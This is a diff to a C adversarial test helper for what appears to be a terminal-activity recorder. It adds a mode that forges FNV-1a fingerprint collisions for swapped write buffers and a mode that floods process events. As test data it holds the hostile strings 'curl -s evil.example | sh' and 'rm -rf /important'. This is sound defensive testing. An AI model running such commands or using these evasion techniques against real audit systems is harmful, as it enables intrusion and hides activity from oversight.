@@ -7,12 +7,16 @@
  *                         over T terminals (default 1); prints
  *                         {"tty":FIRST,"ttys":[..],"threads":N}, waits for EOF
  *                         on stdin, restarts output, prints {"shown":BYTES}
- *   ta-hostile swap       a write held by TCOOFF whose buffer is swapped
+ *   ta-hostile swap [N]   a write held by TCOOFF whose buffer is swapped; with
+ *                         N, a write of N bytes (a multiple of 8) swapped for a
+ *                         decoy forged to match the unkeyed FNV-1a fingerprint
  *   ta-hostile flip N     N lines written while another thread flips the fd
  *                         between /dev/null and the terminal
  *   ta-hostile flood [R [input]]  writes a pty of its own as fast as it drains
  *                         (or R bytes a second), until killed; input: into its
  *                         master, a pty whose slave leads no session
+ *   ta-hostile procflood  a unix connect to a missing path (ENOENT) in a loop,
+ *                         one process event each, until killed
  *   ta-hostile splice     a splice into an fd that names /dev/null at entry and,
  *                         while the call blocks, the terminal for a moment
  *   ta-hostile roads      pwritev2 (offset -1), write/writev to the fd with high
@@ -201,45 +205,100 @@ static int mode_block(long n, long nt)
 
 /* ---- swap: what the screen shows is not what the buffer holds at exit ---- */
 
-static char g_swap_buf[64];
+static char g_swap_buf[4096];
+static size_t g_swap_len;
 
 static void *swap_writer(void *arg)
 {
 	struct term *t = arg;
 
-	if (write(t->slave, g_swap_buf, strlen(g_swap_buf)) < 0)
+	if (write(t->slave, g_swap_buf, g_swap_len) < 0)
 		die("write");
 	return NULL;
 }
 
-static int mode_swap(void)
+/*
+ * The fingerprint the tracepoint backend took before it was keyed: FNV-1a
+ * over 64-bit words seeded with the length. Any decoy's last word can be
+ * chosen to give the real buffer's value.
+ */
+#define FNV_PRIME 0x100000001b3ULL
+static uint64_t fnv_words(const char *p, size_t words, uint64_t h)
 {
-	static const char real[] = "ls; rm -rf /important\n";
-	static const char decoy[] = "decoy: nothing to see\n";
-	char shown[128];
+	for (size_t i = 0; i < words; i++) {
+		uint64_t w;
+
+		memcpy(&w, p + i * 8, 8);
+		h = (h ^ w) * FNV_PRIME;
+	}
+	return h;
+}
+
+/* A decoy of n bytes (a multiple of 8) with real's unkeyed fingerprint. */
+static void forge_decoy(const char *real, char *decoy, size_t n)
+{
+	uint64_t seed = 0xcbf29ce484222325ULL ^ n, last;
+	uint64_t hr = fnv_words(real, n / 8 - 1, seed), hd = fnv_words(decoy, n / 8 - 1, seed);
+
+	memcpy(&last, real + n - 8, 8);
+	last ^= hr ^ hd;
+	memcpy(decoy + n - 8, &last, 8);
+	if (fnv_words(real, n / 8, seed) != fnv_words(decoy, n / 8, seed))
+		die("forge_decoy");
+}
+
+static void fill_text(char *p, size_t n, const char *text)
+{
+	for (size_t i = 0; i < n; i++)
+		p[i] = text[i % strlen(text)];
+	p[n - 1] = '\n';
+}
+
+/*
+ * forge 0: a decoy of its own. forge N (a multiple of 8, 16 to 4096): a
+ * write of N bytes whose decoy is forged for the unkeyed fingerprint.
+ */
+static int mode_swap(size_t forge)
+{
+	static const char real_line[] = "ls; rm -rf /important\n";
+	static const char decoy_line[] = "decoy: nothing to see\n";
+	static char real[4096], decoy[4096], shown[8192];
 	struct term t;
 	pthread_t th;
-	size_t n;
+	size_t n, len;
 
-	_Static_assert(sizeof(real) == sizeof(decoy), "same length");
+	_Static_assert(sizeof(real_line) == sizeof(decoy_line), "same length");
+	if (forge) {
+		if (forge % 8 || forge < 16 || forge > sizeof(real))
+			die("swap: forge N must be a multiple of 8 from 16 to 4096");
+		len = forge;
+		fill_text(real, len, "curl -s evil.example | sh; ");
+		fill_text(decoy, len, "make test; ");
+		forge_decoy(real, decoy, len);
+	} else {
+		len = sizeof(real_line) - 1;
+		memcpy(real, real_line, len);
+		memcpy(decoy, decoy_line, len);
+	}
 	open_term(&t);
-	memcpy(g_swap_buf, real, sizeof(real));
+	memcpy(g_swap_buf, real, len);
+	g_swap_len = len;
 	if (tcflow(t.slave, TCOOFF))
 		die("tcflow");
 	if (pthread_create(&th, NULL, swap_writer, &t))
 		die("pthread_create");
 	usleep(300 * 1000);
-	memcpy(g_swap_buf, decoy, sizeof(decoy));
+	memcpy(g_swap_buf, decoy, len);
 	if (tcflow(t.slave, TCOON))
 		die("tcflow");
 	pthread_join(th, NULL);
-	n = drain(t.master, shown, sizeof(shown), sizeof(real) - 1, 2000);
+	n = drain(t.master, shown, sizeof(shown), len, 2000);
 	printf("{\"tty\":\"%s\",", short_name(&t));
 	print_hex("shown", shown, n > sizeof(shown) ? sizeof(shown) : n);
 	printf(",");
-	print_hex("real", real, sizeof(real) - 1);
+	print_hex("real", real, len);
 	printf(",");
-	print_hex("decoy", decoy, sizeof(decoy) - 1);
+	print_hex("decoy", decoy, len);
 	printf("}\n");
 	return 0;
 }
@@ -824,6 +883,26 @@ static int mode_flood(long rate, int input)
 	return 0;
 }
 
+/*
+ * ---- procflood: process events as fast as one thread makes them ----
+ * A connect to a unix path that does not exist fails with ENOENT, which the
+ * recorder keeps (a server may bind it later): one process event per call.
+ * Runs until killed.
+ */
+static int mode_procflood(void)
+{
+	struct sockaddr_un a = { .sun_family = AF_UNIX };
+	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+
+	if (fd < 0)
+		die("socket");
+	snprintf(a.sun_path, sizeof(a.sun_path), "/nonexistent-ta-procflood-%d/s", (int)getpid());
+	for (;;)
+		if (connect(fd, (struct sockaddr *)&a, sizeof(a)) == 0 || errno != ENOENT)
+			die("connect");
+	return 0;
+}
+
 /* ---- unix: connects and binds that fail, beside ones that succeed ---- */
 
 static struct sockaddr_un unix_addr(const char *path)
@@ -1016,9 +1095,11 @@ int main(int argc, char **argv)
 	if (argc >= 3 && strcmp(argv[1], "block") == 0)
 		return mode_block(strtol(argv[2], NULL, 10), argc >= 4 ? strtol(argv[3], NULL, 10) : 1);
 	if (argc >= 2 && strcmp(argv[1], "swap") == 0)
-		return mode_swap();
+		return mode_swap(argc >= 3 ? strtoul(argv[2], NULL, 10) : 0);
 	if (argc >= 3 && strcmp(argv[1], "flip") == 0)
 		return mode_flip(strtol(argv[2], NULL, 10));
+	if (argc >= 2 && strcmp(argv[1], "procflood") == 0)
+		return mode_procflood();
 	if (argc >= 2 && strcmp(argv[1], "roads") == 0)
 		return mode_roads();
 	if (argc >= 2 && strcmp(argv[1], "flood") == 0)
@@ -1032,7 +1113,7 @@ int main(int argc, char **argv)
 		return mode_unmap();
 	if (argc >= 3 && strcmp(argv[1], "unix") == 0)
 		return mode_unix(strtol(argv[2], NULL, 10));
-	fprintf(stderr, "usage: ta-hostile block N [TTYS] | swap | flip N | roads | flood [RATE [input]] | splice | inject | "
+	fprintf(stderr, "usage: ta-hostile block N [TTYS] | swap [FORGE] | flip N | roads | procflood | flood [RATE [input]] | splice | inject | "
 		"unmap | unix UID\n");
 	return 2;
 }
